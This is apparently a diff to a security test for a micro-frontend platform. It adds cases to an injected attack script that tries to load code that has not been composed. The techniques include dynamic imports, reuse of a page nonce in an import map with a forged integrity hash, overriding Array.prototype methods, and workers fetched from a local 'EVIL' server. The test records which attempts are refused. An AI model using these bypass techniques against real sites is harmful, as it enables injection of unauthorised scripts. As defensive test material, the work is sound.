@@ -19,6 +19,8 @@ const ATTEMPTS = `{
   'an import of text': () => import(/* webpackIgnore: true */ 'data:text/javascript,export default 1'),
   'a file of this site that is not composed': () => new Promise((yes, no) => { const s = document.createElement('script'); s.src = '/api/site'; s.onload = yes; s.onerror = no; document.head.append(s); }),
   'CMP-310 the same, with functions of the language replaced': () => new Promise((yes, no) => { const { find, some } = Array.prototype; Array.prototype.find = () => ({ base: '', checked: false }); Array.prototype.some = () => true; const s = document.createElement('script'); s.onload = yes; s.onerror = no; try { s.src = OTHER; document.head.append(s); } finally { Object.assign(Array.prototype, { find, some }); } }),
+  'CMP-333 an import of a script that is not composed': () => import(/* webpackIgnore: true */ OTHER).catch(() => {}).then(() => { if (!window.__ran) throw 0; }),
+  'CMP-333 the same, with a hash of its own': () => { const again = OTHER + '?again'; const m = document.createElement('script'); m.type = 'importmap'; m.nonce = document.querySelector('[nonce]').nonce; m.textContent = JSON.stringify({ integrity: { [again]: HASH } }); document.head.append(m); return import(/* webpackIgnore: true */ again).catch(() => {}).then(() => { if (!window.__ran) throw 0; }); },
   'a worker': () => new Worker(EVIL + '/worker.js'),
   'a worker from text': () => new Worker(URL.createObjectURL(new Blob(['1']))),
   'a service worker': () => navigator.serviceWorker.register('/_r/worker.js'),
@@ -48,9 +50,9 @@ beforeAll(async () => {
   }).listen(0, '127.0.0.1');
   await new Promise((resolve) => elsewhere.once('listening', resolve));
   const { port } = elsewhere.address() as AddressInfo;
-  const other = await publishVariant('mf-careers', (script) => `${script};`);
+  const other = await publishVariant('mf-careers', (script) => `window.__ran = true;${script}`);
   const notComposed = `/_r/mf-careers/${other.version}/${other.entry[0] ?? ''}`;
-  const attack = `;(() => { const EVIL = 'http://127.0.0.1:${port}'; const OTHER = '${notComposed}'; const tried = window.__tried = {}; const attempts = ${ATTEMPTS};
+  const attack = `;(() => { const EVIL = 'http://127.0.0.1:${port}'; const OTHER = '${notComposed}'; const HASH = '${other.integrity[other.entry[0] ?? ''] ?? ''}'; const tried = window.__tried = {}; const attempts = ${ATTEMPTS};
     (async () => { for (const [name, attempt] of Object.entries(attempts)) {
       try { await attempt(); tried[name] = 'worked'; } catch { tried[name] = 'refused'; } }
       window.__done = true; })(); })();`;
